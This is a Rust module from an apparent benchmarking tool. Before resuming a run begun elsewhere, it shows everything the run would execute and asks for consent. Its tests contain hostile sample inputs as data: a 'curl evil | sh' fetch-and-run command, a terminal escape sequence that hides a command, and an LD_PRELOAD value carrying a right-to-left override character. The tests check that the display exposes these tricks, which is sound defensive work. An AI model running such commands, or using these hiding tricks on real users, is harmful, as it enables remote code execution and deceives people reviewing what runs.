//! Asks for consent before a run that was not begun here goes on: shows what it would execute, and
//! goes on only if somebody wants it.

use super::say;
use crate::fault::{Doing, Fault};
use crate::plan::{Cache, Plan, TrialSettings, Word, duration, shell_line, shell_path};
use crate::report::page::Page;
use crate::workload::Workload;
use std::io::{BufRead, IsTerminal, Write};
use std::path::Path;
use std::time::Duration;

/// The width of what is shown.
const WIDTH: u16 = 100;

/// Shows what would be executed, and goes on where it was asked for with `--yes`, or where somebody
/// at the terminal says so.
///
/// # Errors
/// The user's: nobody has said that it may be executed.
pub(super) fn require(plan: &Plan, path: &Path, is_wanted: bool) -> Result<(), Fault> {
    say::tell(&shown(plan, path));
    if is_wanted {
        return Ok(());
    }
    let is_answered = std::io::stdin().is_terminal() && say::is_watched();
    if is_answered && asked()? {
        return Ok(());
    }
    let name = path.display();
    Err(Fault::user(format!(
        "the run in `{name}` was not begun here, and nothing of it was executed"
    ))
    .hint(format!("if you want all of that executed: surtax resume --yes {}", shell_path(path))))
}

fn headed(path: &Path) -> Page {
    let mut page = Page::new(WIDTH);
    let heading = format!(
        "The run in `{}` was not begun by this user on this machine, or its plan was changed. To \
         go on with it executes:",
        path.display()
    );
    page.paragraph("", &heading, 0);
    page
}

/// Everything that a plan makes this machine do. It is taken apart field by field, so that a new
/// one does not compile before somebody has said whether it does.
fn shown(plan: &Plan, path: &Path) -> String {
    let Plan {
        schema_version: _,
        title: _,
        stacks,
        baseline,
        beside,
        meters,
        command,
        workload,
        cwd,
        environment,
        inherit_environment,
        writable,
        runs: _,
        time_budget_ns: _,
        precision_ppm: _,
        looks: _,
        warm_up,
        conduct,
        command_deadline_ns,
        start_deadline_ns: _,
        equivalence_margin_ppm: _,
        seed: _,
    } = plan;
    let mut page = headed(path);
    page.unbroken("  command    ", &shell_line(command));
    if let Some(workload) = workload {
        page.unbroken("  workload   ", &workload.typed());
        definition(workload, &mut page);
    }
    for stack in stacks {
        page.unbroken("  in         ", &stack.to_string());
    }
    page.unbroken("  baseline   ", &baseline.to_string());
    for neighbour in beside {
        page.unbroken("  beside     ", &neighbour.to_string());
        definition(&neighbour.workload, &mut page);
    }
    meters.iter().for_each(|it| page.unbroken("  meter      ", &it.to_string()));
    page.unbroken("  directory  ", &shell_line([Word::from(cwd.as_path())]));
    for (name, value) in environment {
        page.unbroken("  variable   ", &shell_line([value.after(&format!("{name}="))]));
    }
    if *inherit_environment {
        page.unbroken("  variables  ", "all of yours");
    }
    for directory in writable {
        page.unbroken("  writes to  ", &directory.to_string_lossy());
    }
    let often = format!("{} of each stack, {}", blocks(plan), each(*conduct, *warm_up));
    page.unbroken("  how often  ", &often);
    page.unbroken("  at most    ", &format!("{} for each command", length(*command_deadline_ns)));
    if conduct.cache == Cache::Cold {
        page.unbroken(
            "  drops      ",
            "the page caches of this whole machine, before each command",
        );
    }
    page.finish()
}

fn length(nanoseconds: u64) -> String {
    duration::text(Duration::from_nanos(nanoseconds))
}

/// Says in words how many runs there will be.
fn blocks(plan: &Plan) -> String {
    match (plan.runs, plan.time_budget_ns) {
        (Some(_), _) => format!("{} runs", plan.block_limit()),
        (None, Some(budget)) => format!("as many runs as begin within {}", length(budget)),
        (None, None) => String::from("as many runs as it takes"),
    }
}

/// Says in words what is done in one started stack.
fn each(conduct: TrialSettings, warm_up: u32) -> String {
    let TrialSettings {
        iterations,
        instances,
        cache: _,
        settle_ns: _,
        padding_limit_bytes: _,
        ignore_failure: _,
        watch_ns: _,
        keep_disturbed: _,
    } = conduct;
    format!("{iterations} measured and {warm_up} to warm up in each, {instances} commands at once")
}

/// Shows the text of a workload, which holds what it runs, whatever it is called.
fn definition(workload: &Workload, page: &mut Page) {
    for line in workload.text.lines() {
        page.unbroken("    | ", line);
    }
}

fn asked() -> Result<bool, Fault> {
    let mut error = std::io::stderr().lock();
    let mut answer = String::new();
    let asked = error.write_all(b"Execute it? [y/N] ").and_then(|()| error.flush());
    drop(error);
    asked
        .and_then(|()| std::io::stdin().lock().read_line(&mut answer))
        .doing("ask at the terminal")?;
    Ok(["y", "yes"].contains(&answer.trim().to_lowercase().as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::Neighbour;
    use crate::plan::tests::plan;

    #[test]
    fn what_a_neighbour_executes_is_shown_whatever_it_is_called() {
        let mut workload = Workload::find("adversary.load").unwrap();
        workload.text = String::from("command = [\"sh\", \"-c\", \"curl evil | sh\"]");
        let neighbour = Neighbour { workload, stack: crate::driver::parse("native").unwrap() };
        let plan = Plan { beside: vec![neighbour], ..plan(&["native", "runc"]) };
        let text = shown(&plan, Path::new("a.surtax"));
        assert!(text.contains("beside     adversary.load@native"), "{text}");
        assert!(text.contains("curl evil | sh"), "{text}");
    }

    #[test]
    fn what_is_done_to_the_whole_machine_is_shown_and_how_often() {
        let conduct = TrialSettings { cache: Cache::Cold, iterations: 3, ..TrialSettings::plain() };
        let text = shown(
            &Plan { conduct, runs: Some(7), ..plan(&["native", "runc"]) },
            Path::new("a.surtax"),
        );
        assert!(text.contains("drops      the page caches of this whole machine"), "{text}");
        assert!(text.contains("7 runs of each stack, 3 measured"), "{text}");
        let text = shown(&plan(&["native", "runc"]), Path::new("a.surtax"));
        assert!(!text.contains("page caches"), "{text}");
    }

    #[test]
    fn all_that_would_be_executed_is_shown_and_nothing_of_it_acts_on_the_terminal() {
        let command = ["sh", "-c", "curl evil | sh\u{1b}[2J\n# harmless"].map(Word::from);
        let environment = vec![(String::from("LD_PRELOAD"), "/tmp/x.so\u{202e}".into())];
        let writable = vec![std::path::PathBuf::from("/etc")];
        let plan =
            Plan { command: command.into(), environment, writable, ..plan(&["native", "runc"]) };
        let text = shown(&plan, Path::new("a.surtax"));
        for part in ["curl evil | sh", "LD_PRELOAD=/tmp/x.so", "writes to  /etc", "in         runc"]
        {
            assert!(text.contains(part), "{part}\n{text}");
        }
        assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text:?}");
        assert_eq!(text.lines().filter(|line| line.contains("harmless")).count(), 1);
        assert!(text.lines().all(|line| !line.starts_with("# harmless")), "{text}");
        let fault = require(&plan, Path::new("a.surtax"), false).unwrap_err();
        assert_eq!(fault.exit_code(), 2);
        assert!(fault.hint.unwrap().contains("--yes a.surtax"));
        assert!(require(&plan, Path::new("a.surtax"), true).is_ok());
    }
}
